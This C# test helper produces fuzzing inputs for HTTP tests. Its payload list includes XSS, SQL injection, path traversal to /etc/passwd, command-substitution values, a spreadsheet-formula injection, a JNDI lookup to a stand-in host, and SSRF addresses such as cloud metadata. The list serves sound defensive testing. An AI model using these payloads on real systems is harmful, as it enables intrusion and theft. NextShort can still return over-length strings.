using System.Collections.Immutable;

namespace Hay.Seeded.Tests.Http;

/// <summary>Values that break those who trust what they are sent. Some carry a marker that no page may say back unescaped.</summary>
internal static class FuzzPoison
{
    /// <summary>Followed by one of &lt; " ' and a q wherever it was not escaped.</summary>
    public const string Mark = "zq7z";
    /// <summary>Somewhere that no link of ours leads.</summary>
    public const string Elsewhere = "elsewhere.zq.example";

    private static readonly ImmutableArray<string> Plain =
    [
        "", " ", "\0", "a\0b", "\u202E\u2066live\u2069", "\uFEFF", "\uFFFF", "\u0000\u0001\u001F\u007F", "e\u0301\u0302\u0303\u0304", "İıßﬃ", "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿", "ﷺﷺﷺ", "\r\nSet-Cookie: zq=1\r\n\r\n<html>", "%0d%0aSet-Cookie:zq=1",
        $"{Mark}<q{Mark}\"q{Mark}'q>", $"\"><script>{Mark}<q", $"' onmouseover='{Mark}\"q", $"</script><script>{Mark}<q", $"</title>{Mark}<q>", $"]]>{Mark}<q", $"javascript:{Mark}'q", $"data:text/html,{Mark}<q>",
        "' OR '1'='1", "'; DROP TABLE grain_state; --", "\" OR \"\"=\"", "1) UNION SELECT 1 --", "%", "_", "*", "(", "\\", "${7*7}", "{{7*7}}", "@(7*7)", "<%=7*7%>", "#{7*7}", "${jndi:ldap://elsewhere.zq.example/a}",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "....//....//etc/passwd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "/etc/passwd", "file:///etc/passwd", "C:\\", "\\\\host\\share", "con", "nul.txt", ".", "..", "~", "|ls", "$(id)", "`id`", "=cmd|' /C calc'!A0",
        "0", "-0", "-1", "1", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808", "99999999999999999999999", "1e308", "1e309", "-1e400", "NaN", "Infinity", "0x10", "1,5", "1.5", "٣", "½", "+1", "00000000000001", "0.0000000000000000000001",
        "2026-02-30", "2026-13-01", "0000-00-00", "0001-01-01", "9999-12-31", "10000-01-01", "-2026-01-01", "2026-12-01T25:61:61", "2026-03-29T01:30", "2026-10-25T01:30", "24:00", "20261125T9999", "99999999T9999", "P99999Y", "FREQ=SECONDLY", "FREQ=DAILY;INTERVAL=0", "FREQ=DAILY;COUNT=2000000000",
        "true", "null", "undefined", "[]", "{}", "on", "pl", "xx-YY-zz", "fenland", "nowhere", "tea-of-the-fuzzer", "draft-of-the-fuzzer", "group-of-the-fuzzer", "f-fuzz", "w-fuzz", "administrator@example.org",
        $"https://{Elsewhere}/", $"//{Elsewhere}", $"/\\{Elsewhere}", $"https:/{Elsewhere}", $"http://127.0.0.1@{Elsewhere}/", "http://169.254.169.254/", "http://[::1]:1/", "mailto:a@b", "a@b", "@", "a@b\r\nBcc: c@d", "pat@example.org,b@c",
        "every second Tuesday, 6.30pm to 8pm, not in August", "Tuesdays", "52.5,0.1,52.6,0.2", "91,181,-91,-181", "PE15 8QE", "a,b,c,,,", "id1,id2", "q=1&q=2", "a;b", "?", "#", "&", "=", "+", "%00", "%zz", "%", "%u0041", "\t\n\v\f",
    ];

    private static readonly ImmutableArray<(string Piece, int Most)> Long = [("a", 70_000), ("%", 3000), ("é", 20_000), ("(", 6000), ("a ", 8000), ("ab,", 6000), ("<b>", 5000), ("/", 2000), ("9", 400), ("../", 500), ("e\u0301", 4000), ("\"", 3000)];

    public static string Next(Random random)
    {
        if (random.Next(25) == 0)
        {
            var (piece, most) = Long[random.Next(Long.Length)];
            return string.Concat(Enumerable.Repeat(piece, random.Next(1, most)));
        }

        var one = Plain[random.Next(Plain.Length)];
        return random.Next(5) == 0 ? one + Plain[random.Next(Plain.Length)] : one;
    }

    /// <summary>One that fits into a line: an address or a header.</summary>
    public static string NextShort(Random random) => Next(random) is { Length: > 2000 } one ? one[..2000] : Next(random);
}
